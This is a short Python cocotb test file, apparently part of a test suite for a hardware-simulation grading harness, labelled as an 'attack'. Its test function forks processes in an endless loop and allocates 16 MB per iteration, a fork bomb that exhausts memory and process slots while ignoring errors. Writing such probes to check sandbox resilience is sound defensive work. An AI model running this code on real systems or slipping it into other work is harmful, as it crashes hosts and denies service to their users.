# run: cocotb; ends: crash timeout mismatch no_evidence; attack: takes memory without end, in many processes
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    taken = []
    while True:
        try:
            os.fork()
            taken.append(bytearray(1 << 24))
        except (OSError, MemoryError):
            pass
